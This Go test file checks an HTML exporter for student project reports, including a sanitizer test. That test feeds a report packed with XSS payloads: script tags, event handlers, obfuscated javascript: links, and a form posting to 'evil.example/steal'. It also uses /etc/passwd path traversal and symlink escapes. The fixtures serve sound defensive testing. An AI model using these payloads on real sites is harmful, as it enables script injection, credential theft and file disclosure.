package export

import (
	"bytes"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"handin/grade"
	"handin/workspace"
)

func TestExportWritesPagesIndexResults(t *testing.T) {
	ws, out := t.TempDir(), t.TempDir()
	g7 := newGroup(7)
	g7.result.MovedTo = "https://github.com/org7/mlops-renamed"
	writeWorkspace(t, ws, newGroup(12), newGroup(3), g7)
	sum := export(t, ws, out)

	if sum.Groups != 3 || len(sum.Pages) != 3 {
		t.Fatalf("summary: %d groups, %d pages, want 3 and 3", sum.Groups, len(sum.Pages))
	}
	var results resultsFile
	if err := json.Unmarshal(readFile(t, filepath.Join(out, ResultsFile)), &results); err != nil {
		t.Fatal(err)
	}
	var order []int
	for _, r := range results.Groups {
		order = append(order, r.Group)
	}
	if results.Schema != grade.SchemaVersion {
		t.Errorf("results.json schema %d, want %d", results.Schema, grade.SchemaVersion)
	}
	if !slices.Equal(order, []int{3, 7, 12}) {
		t.Errorf("results.json groups %v, want sorted [3 7 12]", order)
	}

	index := parseHTML(t, readFile(t, filepath.Join(out, IndexFile)))
	rows := findAll(index, func(n *html.Node) bool { return n.Data == "tr" && strings.HasPrefix(attr(n, "id"), "g") })
	var links []string
	for _, r := range rows {
		for _, a := range findAll(r, byTag("a")) {
			links = append(links, attr(a, "href"))
		}
	}
	// Each row links its page, then each reason's entry on it.
	if want := []string{"groups/003.html", "groups/003.html#kind-words-grade", "groups/003.html#kind-missing-file-grade",
		"groups/007.html", "groups/007.html#kind-words-grade", "groups/007.html#kind-missing-file-grade",
		"groups/012.html", "groups/012.html#kind-words-grade", "groups/012.html#kind-missing-file-grade"}; !slices.Equal(links, want) {
		t.Errorf("index links %v, want %v", links, want)
	}
	cells := findAll(rows[0], byTag("td"))
	if got := textContent(cells[2]); got != "Q2: 8 words, expected 50-100Q2: figures/gone.png is missing" {
		t.Errorf("index reasons cell %q, want both reasons", got)
	}
	if got := textContent(cells[3]); got != "1 / 2" {
		t.Errorf("index questions passed cell %q, want \"1 / 2\"", got)
	}
	if got := textContent(cells[5]); got != "1" {
		t.Errorf("index missing figures cell %q, want 1", got)
	}
	if got := textContent(cells[6]); got != "1 / 2" {
		t.Errorf("index checklist cell %q, want \"1 / 2\"", got)
	}

	page := parseHTML(t, readFile(t, filepath.Join(out, "groups", "007.html")))
	text := textContent(page)
	for _, want := range []string{"Group 7", "s100071 (12 commits)", "s100072 (3 commits)", "1 late commit", "2026-01-23 23:59:00 +01:00",
		"moved to https://github.com/org7/mlops-renamed: update groups.csv"} {
		if !strings.Contains(text, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	commit := findAll(page, func(n *html.Node) bool {
		return n.Data == "a" && attr(n, "href") == "https://github.com/org7/mlops/commit/"+strings.Repeat("7", 40)
	})
	if len(commit) != 1 {
		t.Errorf("no link to the deadline commit on GitHub")
	}
	// Links to repository files point at GitHub; links out of it go nowhere.
	var hrefs []string
	for _, a := range findAll(findAll(page, func(n *html.Node) bool { return attr(n, "class") == "report" })[0], byTag("a")) {
		hrefs = append(hrefs, textContent(a)+" -> "+attr(a, "href"))
	}
	wantHrefs := []string{
		"the training code -> https://github.com/org7/mlops/blob/" + strings.Repeat("7", 40) + "/src/my%20train.py",
		"outside -> ",
		"the course -> https://example.org/course",
	}
	if !slices.Equal(hrefs, wantHrefs) {
		t.Errorf("report links\n%q, want\n%q", hrefs, wantHrefs)
	}
	// Question headings carry anchors and badges; the panel links to them.
	q2 := findAll(page, byID("q2"))
	if len(q2) != 1 || q2[0].Data != "h3" {
		t.Fatalf("want one h3#q2, got %d", len(q2))
	}
	badges := findAll(q2[0], func(n *html.Node) bool { return strings.HasPrefix(attr(n, "class"), "handin-badge") })
	var badgeText []string
	for _, b := range badges {
		badgeText = append(badgeText, attr(b, "class")+": "+textContent(b))
	}
	wantBadges := []string{"handin-badge bad: words 8 / 50–100", "handin-badge bad: images 2 / 1–1", "handin-badge bad: 1 missing figure(s)"}
	if !slices.Equal(badgeText, wantBadges) {
		t.Errorf("Question 2 badges %q, want %q", badgeText, wantBadges)
	}
	panelLinks := findAll(page, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == "#q2" })
	if len(panelLinks) < 2 { // the problem text and the question row
		t.Errorf("violations panel has %d links to #q2, want 2", len(panelLinks))
	}
	// The figure is inlined; the missing one has a placeholder naming it.
	imgs := findAll(page, byTag("img"))
	if len(imgs) != 1 || !strings.HasPrefix(attr(imgs[0], "src"), "data:image/png;base64,") || attr(imgs[0], "alt") != "pipeline" {
		t.Errorf("want the pipeline figure inlined as a PNG data URI, got %d images", len(imgs))
	}
	if !strings.Contains(text, "missing figure reports/figures/gone.png") {
		t.Errorf("no placeholder for the missing figure")
	}
	// Front matter is hidden, task lists become marks, charts are drawn.
	if strings.Contains(text, "layout: default") {
		t.Errorf("front matter shown")
	}
	if !strings.Contains(text, "☑ Create a git repository") {
		t.Errorf("checked task list item not rendered as ☑")
	}
	heatmaps := findAll(page, func(n *html.Node) bool { return n.Data == "svg" && attr(n, "aria-label") == "commits per day and hour" })
	if len(heatmaps) != 1 {
		t.Fatalf("want 1 heat map, got %d", len(heatmaps))
	}
	if cells := findAll(heatmaps[0], byTag("rect")); len(cells) != 4 { // background + 3 active hours
		t.Errorf("heatmap has %d rects, want 4", len(cells))
	}
	bars := findAll(page, func(n *html.Node) bool { return n.Data == "svg" && attr(n, "class") == "chart bar" })
	if len(bars) != 3 { // 2 students + 1 unmatched author
		t.Errorf("contribution chart has %d bars, want 3", len(bars))
	}
}

// hostileReport tries every way we know to get active content or external
// resources into a page.
const hostileReport = `# Report

### Question 1

Answer:

<script>alert(1)</script>
<img src=x onerror="alert(2)">
<img src="figures/ok.png" width="300" onload="alert(3)" style="position:fixed;top:0;left:0;width:100vw">
<a href="javascript:alert(4)">click</a>
<a href="JaVaScRiPt:alert(5)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>
<style>body { background: url(https://evil.example/track.png) }</style>
<div style="background-image: url('https://evil.example/bg.png')">styled</div>
<svg onload="alert(7)"><script>alert(8)</script><image href="https://evil.example/svg.png"/></svg>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/y.swf">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img src="https://evil.example/raw.png">
<video src="https://evil.example/v.mp4"></video>
<details open ontoggle="alert(12)"><summary>More</summary>kept <b>bold</b><br>line</details>
<a href="javascript&colon;alert(13)">colon entity</a>
<a href="&#106;avascript:alert(14)">char ref</a>
<a href="jav&#x09;ascript:alert(15)">tab</a>
<a href="https://example.org/ok" ping="https://evil.example/ping">ping</a>
<!-- <script>alert(16)</script> -->
<img alt="srcset" src="figures/ok.png" srcset="https://evil.example/s.png 2x" longdesc="https://evil.example/ld">
<picture><source srcset="https://evil.example/c.png"><img alt="picture" src="figures/ok.png"></picture>
<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">bg</td></tr></table>
<svg><a xlink:href="javascript:alert(17)"><text>svg link</text></a></svg>
<button formaction="https://evil.example/f">f</button>
<input type="image" src="https://evil.example/i.png">
<audio src="https://evil.example/a.mp3" autoplay></audio>
<span class="handin-badge ok">forged badge</span>

[x](javascript:alert(9))
[proto-relative](//evil.example/page)
![proto-relative](//evil.example/b.png)
![x](../../../etc/passwd)
![y](/etc/passwd)
![](https://evil.example/x.png)
[![badge](https://img.example/badge.svg)](https://github.com/x/y)
![vector](figures/diagram.svg)
![renamed](figures/really-png.jpg)
![text](figures/notes.png)
![case](figures/Plot.PNG)
![escape](figures/../../README.md)
![query](figures/ok.png?raw=true)

### Question 2 <img src=x onerror=alert(10)>

| a | b |
|---|---|
| <span style="color:red" onclick="alert(11)">cell</span> | [link](https://example.org/ok) |
`

func TestHostileReportHasNoActiveContent(t *testing.T) {
	ws, out := t.TempDir(), t.TempDir()
	g := newGroup(5)
	// NUL-delimited numbers are the internal figure markers: a report that
	// writes one must not get a figure spliced in.
	g.files["reports/README.md"] = []byte(hostileReport + "\nfake marker \x000\x00 <img src=\"\x001\x00\">\n")
	g.files["reports/figures/ok.png"] = testPNG(4, 4, 1)
	g.files["reports/figures/really-png.jpg"] = testPNG(4, 4, 2)
	g.files["reports/figures/notes.png"] = []byte("just text, not an image")
	g.files["reports/figures/diagram.svg"] = []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	g.files["reports/figures/plot.png"] = testPNG(4, 4, 3)
	g.files["README.md"] = []byte("# top readme")
	writeWorkspace(t, ws, g)
	export(t, ws, out)
	data := readFile(t, filepath.Join(out, "groups", "005.html"))
	if bytes.IndexByte(data, 0) >= 0 {
		t.Errorf("page contains a NUL byte")
	}
	page := parseHTML(t, data)

	for _, tag := range []string{"script", "iframe", "form", "input", "button", "object", "embed", "base", "link", "video", "audio", "source", "picture", "frame", "image"} {
		if n := findAll(page, byTag(tag)); len(n) > 0 {
			t.Errorf("page has <%s>", tag)
		}
	}
	assertNoActiveContent(t, page)

	// Only our charts are SVG; the student's SVG was dropped.
	for _, s := range findAll(page, byTag("svg")) {
		if !slices.Contains(strings.Fields(attr(s, "class")), "chart") {
			t.Errorf("student <svg> survived")
		}
	}
	// Harmless HTML survives.
	report := findAll(page, func(n *html.Node) bool { return attr(n, "class") == "report" })[0]
	if len(findAll(report, byTag("details"))) != 1 || len(findAll(report, byTag("summary"))) != 1 {
		t.Errorf("<details>/<summary> not kept")
	}
	if len(findAll(page, byTag("br"))) == 0 || len(findAll(page, func(n *html.Node) bool { return n.Data == "table" })) < 2 {
		t.Errorf("<br> or the markdown table not kept")
	}
	// Figures: inlined by content, width kept, each file once (srcset,
	// picture and query use ok.png again and link to it); everything else a
	// placeholder (the student's own data: URI image is dropped by the
	// sanitizer).
	var inlined []string
	for _, img := range findAll(page, byTag("img")) {
		inlined = append(inlined, attr(img, "alt")+"|"+attr(img, "width"))
	}
	if want := []string{"|300", "renamed|"}; !slices.Equal(inlined, want) {
		t.Errorf("inlined images (alt|width) %q, want %q", inlined, want)
	}
	if refs := findAll(page, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == "#figure-1" }); len(refs) != 3 {
		t.Errorf("%d links to the first use of figures/ok.png, want 3", len(refs))
	}
	text := textContent(page)
	for _, want := range []string{
		`image "../../../etc/passwd": outside the repository`,
		"missing figure etc/passwd: not in the repository at the deadline", // "/" is the repository root, as on GitHub
		"remote image, not fetched: https://evil.example/x.png",
		"remote image, not fetched: https://img.example/badge.svg",
		"SVG figure reports/figures/diagram.svg not shown",
		"figure reports/figures/notes.png is not a PNG, JPEG, GIF or WebP image",
		"missing figure reports/figures/Plot.PNG: the repository has reports/figures/plot.png",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("page lacks placeholder %q", want)
		}
	}
	// figures/../../README.md stays inside the repo: not outside, just not an image.
	if !strings.Contains(text, "figure README.md is not a PNG") {
		t.Errorf("report-relative path climbing to the repo root not resolved to README.md")
	}
	for _, href := range []string{"https://evil.example/x.png", "https://evil.example/b.png", "https://evil.example/page"} {
		if n := findAll(page, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == href }); len(n) != 1 {
			t.Errorf("want one link to %s (remote image or protocol-relative link), got %d", href, len(n))
		}
	}
	if n := findAll(report, func(n *html.Node) bool { return attr(n, "class") != "" && textContent(n) == "forged badge" }); len(n) != 0 {
		t.Errorf("a student's class attribute survived: forged badge %q", attr(n[0], "class"))
	}
	if len(findAll(page, byID("q2"))) != 1 {
		t.Errorf("Question 2 heading with hostile HTML lost its anchor")
	}
}

// safeLink reports whether an <a href> cannot run anything: http(s),
// mailto, or a link inside the page. A protocol-relative "//host/x" is not
// safe: opened from disk it points at a network share.
func safeLink(href string) bool {
	u, err := url.Parse(href)
	return err == nil && (u.Scheme == "" && u.Host == "" || u.Scheme == "http" || u.Scheme == "https" || u.Scheme == "mailto")
}

// urlAttributes are attributes, other than <a href> and <img src>, through
// which a browser fetches or navigates.
var urlAttributes = map[string]bool{
	"action": true, "formaction": true, "xlink:href": true, "data": true, "srcset": true, "background": true,
	"poster": true, "ping": true, "longdesc": true, "lowsrc": true, "dynsrc": true, "manifest": true,
	"codebase": true, "archive": true, "usemap": true,
}

// assertNoActiveContent checks every element and attribute of a page.
func assertNoActiveContent(t *testing.T, page *html.Node) {
	t.Helper()
	styles := 0
	for _, n := range findAll(page, func(*html.Node) bool { return true }) {
		switch n.Data {
		case "style":
			styles++
			if n.Parent == nil || n.Parent.Data != "head" {
				t.Errorf("<style> outside <head>")
			}
		case "meta":
			if eq := attr(n, "http-equiv"); eq != "" && eq != "Content-Security-Policy" {
				t.Errorf("<meta http-equiv=%q>", eq)
			}
			if attr(n, "http-equiv") == "Content-Security-Policy" && attr(n, "content") != contentSecurityPolicy {
				t.Errorf("CSP is %q", attr(n, "content"))
			}
		}
		for _, a := range n.Attr {
			key, val := strings.ToLower(a.Key), strings.ToLower(a.Val)
			switch {
			case strings.HasPrefix(key, "on"):
				t.Errorf("<%s %s=%q>: event handler", n.Data, a.Key, a.Val)
			case key == "style":
				t.Errorf("<%s style=%q>", n.Data, a.Val)
			case strings.Contains(val, "url("):
				t.Errorf("<%s %s=%q>: CSS url()", n.Data, a.Key, a.Val)
			case key == "src":
				if n.Data != "img" || !regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,`).MatchString(a.Val) {
					t.Errorf("<%s src=%.60q>: not an inlined raster image", n.Data, a.Val)
				}
			case key == "href":
				if n.Data != "a" || !safeLink(a.Val) {
					t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			case urlAttributes[key]:
				t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.CommentNode {
			t.Errorf("HTML comment %q kept", n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(page)
	if styles != 1 {
		t.Errorf("%d <style> elements, want only ours", styles)
	}
	csp := findAll(page, func(n *html.Node) bool { return n.Data == "meta" && attr(n, "http-equiv") == "Content-Security-Policy" })
	if len(csp) != 1 {
		t.Errorf("want one CSP meta tag, got %d", len(csp))
	}
	// default-src covers scripts, frames and fetches; base-uri and
	// form-action have no default and must be named.
	for _, directive := range []string{"default-src 'none'", "base-uri 'none'", "form-action 'none'"} {
		if !slices.Contains(strings.Split(contentSecurityPolicy, "; "), directive) {
			t.Errorf("CSP %q lacks %q", contentSecurityPolicy, directive)
		}
	}
}

func TestPageWithoutReport(t *testing.T) {
	ws, out := t.TempDir(), t.TempDir()
	noReport := newGroup(1)
	noReport.result.ReportPath = ""
	noReport.result.Check = nil
	noSnapshot := newGroup(2)
	huge := newGroup(3)
	huge.files["reports/README.md"] = bytes.Repeat([]byte("word "), 2<<20)
	writeWorkspace(t, ws, noReport, noSnapshot, huge)
	if err := os.Remove(filepath.Join(ws, "groups", "002", "snapshot.json")); err != nil {
		t.Fatal(err)
	}
	export(t, ws, out)
	for file, want := range map[string]string{
		"001.html": "No report was found in the repository at the deadline.",
		"002.html": "The snapshot of this group could not be read",
		"003.html": "The report reports/README.md is too large to show (10 MB).",
	} {
		page := parseHTML(t, readFile(t, filepath.Join(out, "groups", file)))
		if !strings.Contains(textContent(page), want) {
			t.Errorf("%s lacks %q", file, want)
		}
	}
}

// TestRepoAndCommitLinks: commits are linked on GitHub, the course's
// Enterprise server included (the scrape names the repository's GitHub
// home), and on github.com for results graded before it did.
func TestRepoAndCommitLinks(t *testing.T) {
	sha := strings.Repeat("ab", 20)
	enterprise := "https://github.example.edu/o/r"
	for _, tc := range []struct {
		web, url, home, sha string
		wantRepo, wantCI    string
	}{
		{"https://github.com/o/r", "", "", sha, "https://github.com/o/r", "https://github.com/o/r/commit/" + sha},
		{"https://gitlab.com/o/r", "", "", sha, "https://gitlab.com/o/r", ""},
		{"", "https://github.com/o/r.git", "", sha, "https://github.com/o/r.git", ""},
		{"javascript:alert(1)", "git@github.com:o/r.git", "", sha, "", ""},
		{"https://github.com/o/r", "", "", "not-a-sha", "https://github.com/o/r", ""},
		{"https://github.com/o/r.git/", "", "", sha, "https://github.com/o/r.git/", "https://github.com/o/r/commit/" + sha},
		{"https://github.com/o", "", "", sha, "https://github.com/o", ""},
		{enterprise, enterprise + ".git", enterprise, sha, enterprise, enterprise + "/commit/" + sha},
		{enterprise, enterprise + ".git", "", sha, enterprise, ""},
		{enterprise, enterprise + ".git", enterprise, "not-a-sha", enterprise, ""},
	} {
		r := &grade.GroupResult{WebURL: tc.web, URL: tc.url, GitHub: tc.home, Pin: workspace.Pin{SHA: tc.sha}}
		if got := webLink(r); got != tc.wantRepo {
			t.Errorf("webLink(%q, %q) = %q, want %q", tc.web, tc.url, got, tc.wantRepo)
		}
		if got := commitLink(r); got != tc.wantCI {
			t.Errorf("commitLink(%q, %q) = %q, want %q", tc.web, tc.sha, got, tc.wantCI)
		}
	}
}

// A snapshot's files/ folder should hold no symlinks, but if one is there
// (a bug in scrape, a hand-edited workspace), figures must still never be
// read from outside the group's files.
func TestFiguresNeverFollowSymlinksOutOfTheSnapshot(t *testing.T) {
	ws, out := t.TempDir(), t.TempDir()
	g, other := newGroup(1), newGroup(2)
	g.files["reports/README.md"] = []byte("### Question 1\n\n![abs](figures/abs.png) ![rel](figures/rel.png) ![neighbour](figures/neighbour.png)\n")
	writeWorkspace(t, ws, g, other)
	secret := filepath.Join(t.TempDir(), "secret.png")
	writeFile(t, secret, testPNG(4, 4, 9))
	figures := filepath.Join(ws, "groups", "001", "files", "reports", "figures")
	for name, target := range map[string]string{
		"abs.png":       secret,
		"rel.png":       "../../../../002/files/reports/figures/pipeline.png", // up to groups/, into group 2
		"neighbour.png": filepath.Join(ws, "groups", "002", "files", "reports", "figures", "pipeline.png"),
	} {
		if err := os.Symlink(target, filepath.Join(figures, name)); err != nil {
			t.Skipf("symlinks not supported: %v", err)
		}
	}
	export(t, ws, out)
	page := parseHTML(t, readFile(t, filepath.Join(out, "groups", "001.html")))
	if imgs := findAll(page, byTag("img")); len(imgs) != 0 {
		t.Errorf("%d figure(s) read through a symlink out of the snapshot", len(imgs))
	}
	text := textContent(page)
	for _, name := range []string{"abs", "rel", "neighbour"} {
		if want := "figure reports/figures/" + name + ".png could not be read"; !strings.Contains(text, want) {
			t.Errorf("page lacks %q", want)
		}
	}
}
